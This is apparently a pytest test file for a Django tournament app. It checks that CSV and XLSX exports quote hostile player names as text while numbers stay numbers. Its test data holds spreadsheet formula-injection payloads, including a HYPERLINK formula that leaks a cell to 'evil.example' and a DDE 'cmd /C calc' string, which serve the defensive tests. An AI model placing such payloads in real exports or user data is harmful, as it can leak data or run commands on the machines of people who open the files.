"""Hostile player names in every export: a spreadsheet opening the file shows them as text
and runs nothing, while numbers stay numbers."""

from __future__ import annotations

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.urls import reverse

from tests.tournaments.builders import final_game
from tournaments.exports import is_formula_like, neutralise
from tournaments.models import Event, Player, Session

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]
MORE_HOSTILE = ["\t=1+1", "\r=1+1", "-x", "Plain"]


@pytest.fixture
def odd_event(organiser):
    event = Event.objects.create(name="Odd", slug="odd", starts_on=datetime.date(2026, 1, 1))
    event.organisers.add(organiser)
    session = Session.objects.create(event=event, number=1, date=datetime.date(2026, 1, 1))
    final_game(session, HOSTILE, [41300, 24900, 21800, 12000], 1)
    # Names with a tab or a carriage return are refused now, but a database may hold some
    # stored before: the exports still defend against them (bulk_create skips the check).
    Player.objects.bulk_create([Player(display_name=name) for name in MORE_HOSTILE[:2]])
    final_game(session, MORE_HOSTILE, [35000, 30000, 20000, 15000], 2)
    return event


def export(client, page: str, fmt: str):
    response = client.get(reverse(f"tournaments:{page}", args=["odd"]), {"_export": fmt})
    assert response.status_code == 200
    return response


def csv_rows(response):
    text = response.content.decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text))
    return header, rows


@pytest.mark.parametrize("page", ["standings", "results"])
def test_every_hostile_name_is_text_in_the_csv_export(client, odd_event, page):
    header, rows = csv_rows(export(client, page, "csv"))
    names = [row[header.index("Player")] for row in rows]

    assert sorted(names) == sorted(
        ["'" + name for name in HOSTILE + MORE_HOSTILE if name not in ("Plain",)] + ["Plain"]
    )
    for row in rows:
        for cell in row:
            assert not is_formula_like(cell), cell


@pytest.mark.parametrize("page", ["standings", "results"])
def test_numbers_stay_numbers_in_the_csv_export(client, odd_event, page):
    header, rows = csv_rows(export(client, page, "csv"))
    column = header.index("Total" if page == "standings" else "Match points")

    values = sorted(float(row[column]) for row in rows)

    assert values[0] < 0  # a negative total is written "-41.0", not "'-41.0"
    assert all(not row[column].startswith("'") for row in rows)


@pytest.mark.parametrize("page", ["standings", "results"])
def test_every_hostile_name_is_a_quoted_text_cell_in_the_xlsx_export(client, odd_event, page):
    response = export(client, page, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    player = header.index("Player") + 1
    cells = [sheet.cell(row=r, column=player) for r in range(2, sheet.max_row + 1)]

    # XML reads a carriage return back as a line feed.
    expected = [name.replace("\r", "\n") for name in HOSTILE + MORE_HOSTILE]
    assert sorted(cell.value for cell in cells) == sorted(expected)
    for cell in cells:
        assert cell.data_type == "s"  # never "f", a formula
        assert cell.quotePrefix == (cell.value != "Plain")
    total = header.index("Total" if page == "standings" else "Match points") + 1
    assert all(
        isinstance(sheet.cell(row=r, column=total).value, (int, float))
        for r in range(2, sheet.max_row + 1)
    )
    # No cell anywhere in the file is a formula.
    assert b"<f>" not in response.content


@pytest.mark.parametrize("page", ["standings", "results"])
def test_the_json_export_keeps_names_exactly_and_numbers_as_numbers(client, odd_event, page):
    records = json.loads(export(client, page, "json").content)

    assert sorted(record["Player"] for record in records) == sorted(HOSTILE + MORE_HOSTILE)
    for record in records:
        if page == "standings":
            assert isinstance(record["Rank"], int)
            assert isinstance(record["Total"], float)
        else:
            assert isinstance(record["Match points"], float)
            assert isinstance(record["Final score"], int)


def test_the_event_export_keeps_hostile_names_exactly(client, odd_event):
    response = client.get(reverse("tournaments:event_export", args=["odd"]))
    document = json.loads(response.content)

    names = {name for game in document["games"] for name in game["record"]["players"]}
    assert names == set(HOSTILE + MORE_HOSTILE)
    assert Player.objects.filter(display_name__in=HOSTILE).count() == 4


def test_the_neutraliser_leaves_signed_numbers_and_ordinary_text_alone():
    assert neutralise("-12.5") == "-12.5"
    assert neutralise("+3") == "+3"
    assert neutralise("-1,000") == "-1,000"
    assert neutralise("-") == "'-"
    assert neutralise("=1") == "'=1"
    assert neutralise("\t1") == "'\t1"
    assert neutralise("Aki") == "Aki"
    assert neutralise(-83) == -83
